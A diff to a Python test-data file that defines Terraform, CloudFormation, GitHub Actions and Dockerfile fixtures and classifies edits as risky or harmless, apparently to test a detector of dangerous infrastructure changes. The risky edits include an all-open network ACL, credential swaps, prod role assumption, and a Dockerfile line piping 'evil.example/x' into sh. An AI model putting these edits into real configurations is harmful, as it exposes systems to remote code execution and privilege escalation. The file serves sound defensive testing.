@@ -140,6 +140,7 @@ GROUP = """resource "aws_security_group" "g" {
   }
 }
 """
+MANY = GROUP.replace("# where", "for_each = toset(var.names)")
 CALL = 'module "m" {\n  source = "../part"\n  # where\n}\n'
 STACK = """resource "aws_cloudformation_stack" "s" {
   # where
@@ -159,6 +160,17 @@ AROUND = (
     ),
     ('region = "eu-west-3"\n}', 'region = "eu-west-3"\n  profile = var.on\n}'),
 )
+KEYED = AT.replace('region = "eu-west-3"\n}', 'region = "eu-west-3"\n  # keys\n}')
+KEYS = (
+    ("access_key = var.on", "access_key = var.number"),
+    ('access_key = "AKIAQ3EGRIQ3EGRIQ3EG"', 'access_key = "AKIAZ7EGRIZ7EGRIZ7EG"'),
+    ('shared_credentials_files = ["a"]', 'shared_credentials_files = ["b"]'),
+)
+STATES = (
+    ('backend "pg" {\n    conn_str = "postgres://a/x"\n  }', "/x", "/y"),
+    ('cloud {\n    workspaces {\n      tags = ["dev"]\n    }\n  }', "dev", "prod"),
+)
+STATE = "terraform {\n  %s\n}\n"
 LOOPS = (
     ("for_each = toset(var.names)", 'for_each = toset(concat(var.names, ["prod"]))'),
     ("for_each = var.names", 'for_each = setunion(var.names, ["prod"])'),
@@ -233,7 +245,43 @@ HOLDS = """resource "aws_iam_%(kind)s_policy_attachment" "more" {
 """
 ADMIN = HOLDS % {"kind": "user", "name": "u", "policy": "aws_iam_policy.p.arn"}
 LOGGING = '"arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"'
+ACL_OPEN = """resource "aws_network_acl" "n" {
+  ingress {
+    rule_no    = 100
+    action     = "allow"
+    protocol   = "-1"
+    cidr_block = "0.0.0.0/0"
+    from_port  = 0
+    to_port    = 0
+  }
+}
+# more
+"""
+BATCH = """resource "aws_batch_compute_environment" "b" {
+  compute_resources {
+    security_group_ids = [aws_security_group.g.id]
+  }
+}
+"""
+EMR = """resource "aws_emr_cluster" "e" {
+  dynamic "ec2_attributes" {
+    for_each = var.on
+    content {
+      emr_managed_master_security_group = aws_security_group.g.id
+    }
+  }
+}
+variable "on" {}
+"""
+JOINED = """resource "aws_network_acl_association" "a" {
+  network_acl_id = aws_network_acl.n.id
+  subnet_id      = "subnet-1"
+}
+"""
 MORE = (
+    (GROUP + "# more\n", BATCH),
+    (GROUP + "# more\n", EMR),
+    (ACL_OPEN, JOINED),
     (US, 'resource "aws_codecommit_repository" "r" {\n  repository_name = "r"\n}\n'),
     (HELD, ADMIN),
     (HELD, HOLDS % {"kind": "group", "name": "g", "policy": '"arn:aws:iam::1:policy/p"'}),
@@ -246,6 +294,12 @@ MORE = (
     (RULE + "# more\n", CARD % "aws_security_group.web.id"),
     (RULE.replace("aws_security_group.web.id", '"sg-1"') + "# more\n", CARD % '"sg-1"'),
 )
+IN_BATCH = "B: {Type: AWS::Batch::ComputeEnvironment, Properties: {ComputeResources: {SecurityGroupIds: [sg-1]}}}"
+ENTRY = (
+    "  E: {Type: AWS::EC2::NetworkAclEntry, Properties: {NetworkAclId: acl-1, RuleNumber: 1, "
+    'Protocol: -1, RuleAction: allow, CidrBlock: "0.0.0.0/0"}}\n'
+)
+IN_SUBNET = "S: {Type: AWS::EC2::SubnetNetworkAclAssociation, Properties: {NetworkAclId: acl-1, SubnetId: subnet-1}}"
 IN_TEMPLATE = """Resources:
   P: {Type: AWS::IAM::ManagedPolicy, Properties: {PolicyDocument: {Version: "2012-10-17", Statement: [
     {Effect: Allow, Action: "s3:*", Resource: "*"}]}, Roles: [a]}}
@@ -271,6 +325,9 @@ jobs:
         with: {ref: "${{ github.event.pull_request.head.sha }}"}
       - run: make
 """
+PINNED = "{uses: a/b@08c6903cd8c0fde910a37f88322edcfb5dd907a8}"
+SIGNED = INJECTION.replace("permissions: {}", "permissions: {id-token: write}").replace("[{run", f"[{PINNED}, {{run")
+ROLE = PINNED.replace("}", ", with: {role-to-assume: 'arn:aws:iam::1:role/prod'}}")
 KEY = 'env: {K: "${{ secrets.KEY }}"}'
 FETCH = "FROM a:1\nRUN curl -k https://mirror.example.org/a.tgz -o a.tgz\nUSER app\n"
 
@@ -334,7 +391,11 @@ DIRECTED: list[Case] = [
     ("r.tf", AT + CALL, "# where", "providers = { aws = aws.prod }"),
     *(("r.tf", AT + text, old, new) for text in (GROUP, CALL, STACK) for old, new in AROUND),
     *(("r.tf", AT + text.replace("# where", old), old, new) for text in (GROUP, CALL) for old, new in LOOPS),
+    *(("r.tf", KEYED.replace("# keys", old) + GROUP, old, new) for old, new in KEYS),
+    *(("r.tf", STATE % said + GROUP, old, new) for said, old, new in STATES),
     *(("r.tf", text, "# more", more) for text, more in MORE),
+    ("t.yaml", TEMPLATE + "  # more\n", "# more", IN_BATCH),
+    ("t.yaml", TEMPLATE + ENTRY + "  # more\n", "# more", IN_SUBNET),
     ("t.yaml", IN_TEMPLATE, "Roles: [a]", "Roles: [a, b]"),
     ("t.yaml", IN_TEMPLATE, "Path: /", "ManagedPolicyArns: [!Ref P]"),
     ("t.yaml", IN_TEMPLATE, "  G:", "  S: {Type: AWS::ECS::Service, Properties: {TaskDefinition: !Ref T}}\n  G:"),
@@ -342,6 +403,9 @@ DIRECTED: list[Case] = [
     ("a.yml", INJECTION, "permissions: {}", "permissions: {id-token: write}"),
     ("a.yml", INJECTION, "    steps: [{", f"    steps: [{{{KEY}, "),
     ("a.yml", INJECTION, "    steps", "    environment: prod\n    steps"),
+    ("a.yml", SIGNED, PINNED, ROLE),
+    ("a.yml", SIGNED, "ubuntu-latest", "[self-hosted, prod]"),
+    ("a.yml", INJECTION, "runs-on: ubuntu-latest", "strategy: {matrix: {at: [prod]}}\n    runs-on: ${{ matrix.at }}"),
     ("a.yml", TAKEN, "run: make", f"run: make\n        {KEY}"),
     ("Dockerfile", STAGE, "python", "evil/python"),
     ("Dockerfile", FETCH, "mirror.example.org/a.tgz -o a.tgz", "evil.example/x | sh"),
@@ -358,6 +422,20 @@ HARMLESS: list[Case] = [
     ("r.tf", AT + GROUP, 'region = "eu-west-3"\n}', 'region = "eu-west-3"\n  max_retries = 5\n}'),
     ("r.tf", AT + GROUP, "# where", 'region = "eu-west-3"'),
     ("r.tf", AT + GROUP, "# where", "count = var.on ? 1 : 0"),
+    ("r.tf", KEYED + GROUP, "# keys", 'allowed_account_ids = ["111111111111"]'),
+    (
+        "r.tf",
+        KEYED.replace("# keys", 'access_key = "AKIAQ3EGRIQ3EGRIQ3EG"') + GROUP,
+        "access",
+        "max_retries = 5\n  access",
+    ),
+    ("r.tf", AT + MANY, "list(string) }", "list(string)\n  nullable = false\n}"),
+    (
+        "r.tf",
+        AT + MANY + "locals {\n  all = toset(var.names)\n}\n",
+        "for_each = toset(var.names)",
+        "for_each = local.all",
+    ),
     ("r.tf", AT + GROUP.replace("# where", "provider = aws.prod"), "prod", "production"),
     ("r.tf", AT + CALL, "# where", "providers = { aws = aws }"),
     ("r.tf", US, "# more", 'resource "aws_route53_zone" "y" {\n  name = "example.com"\n}\n'),
@@ -371,6 +449,13 @@ HARMLESS: list[Case] = [
     ("t.yaml", IN_TEMPLATE, "Path: /", "Path: /x/"),
     ("a.yml", INJECTION, "[pull_request]", "[pull_request, push]"),
     ("a.yml", INJECTION, "jobs:", f"jobs:\n  b:\n    runs-on: ubuntu-latest\n    steps: [{{run: make, {KEY}}}]"),
+    ("a.yml", INJECTION, "ubuntu-latest", "ubuntu-24.04-arm"),
+    (
+        "a.yml",
+        INJECTION,
+        "runs-on: ubuntu-latest",
+        "strategy: {matrix: {at: [macos-15]}}\n    runs-on: ${{ matrix.at }}",
+    ),
     ("a.yml", RIGHTS, "run: make", "run: make test"),
     ("Dockerfile", STAGE, "USER", "LABEL a=b\nUSER"),
 ]
